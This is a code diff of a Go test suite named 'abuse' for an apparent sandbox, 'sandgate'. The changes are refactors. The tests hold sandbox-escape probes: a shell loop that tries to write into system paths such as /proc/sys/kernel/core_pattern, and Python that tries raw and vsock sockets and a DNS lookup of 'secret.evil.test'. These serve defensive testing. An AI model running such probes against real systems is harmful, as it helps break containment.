@@ -3,14 +3,14 @@ package abuse
 import (
 	"fmt"
 	"net"
+	"net/netip"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 
-	"github.com/sandgate/sandgate/test/daemontest"
-
 	sandgatev1 "github.com/sandgate/sandgate/proto/sandgate/v1"
+	"github.com/sandgate/sandgate/test/daemontest"
 )
 
 func TestShadowEnvironmentSocketAndJournalAreInvisible(t *testing.T) {
@@ -39,7 +39,7 @@ func TestShadowEnvironmentSocketAndJournalAreInvisible(t *testing.T) {
 
 // onlyEmptyDir reports whether an ls -la shows a directory with nothing in it.
 func onlyEmptyDir(ls string) bool {
-	for _, line := range strings.Split(strings.TrimSpace(ls), "\n") {
+	for line := range strings.SplitSeq(strings.TrimSpace(ls), "\n") {
 		if !strings.HasPrefix(line, "total") && !strings.HasSuffix(line, " .") && !strings.HasSuffix(line, " ..") {
 			return false
 		}
@@ -52,7 +52,7 @@ func TestNothingOutsideTheWorkspaceCanBeWritten(t *testing.T) {
 	r := run(t, d, `for p in / /etc /usr /usr/bin /bin /lib /proc/sys/kernel/core_pattern /sys /dev /sandgate-init /.sandgate /home /root /opt /var; do
 	if [ -d $p ]; then (echo x > $p/.probe) 2>/dev/null && { rm -f $p/.probe; echo "wrote in $p"; }; else (echo x > $p) 2>/dev/null && echo "wrote $p"; fi; done; true`)
 	wantOutcome(t, r, sandgatev1.Outcome_OUTCOME_EXITED)
-	for _, line := range strings.Fields(strings.ReplaceAll(daemontest.Text(r.GetStdout()), "wrote in ", "")) {
+	for line := range strings.FieldsSeq(strings.ReplaceAll(daemontest.Text(r.GetStdout()), "wrote in ", "")) {
 		if line != "/home" && line != "/dev" { // tmpfs of the call itself would be fine, anything else not
 			t.Errorf("wrote in %s", line)
 		}
@@ -105,7 +105,7 @@ attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM))
 attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
 attempt("dns", lambda: socket.getaddrinfo("secret.evil.test", 80))
 print(sorted(n for _, n in socket.if_nameindex()))
-`, ln.Addr().(*net.TCPAddr).Port))
+`, netip.MustParseAddrPort(ln.Addr().String()).Port()))
 	wantOutcome(t, r, sandgatev1.Outcome_OUTCOME_EXITED)
 	out := daemontest.Text(r.GetStdout())
 	if strings.Contains(out, "REACHED") || strings.Count(out, "no ") != 10 {
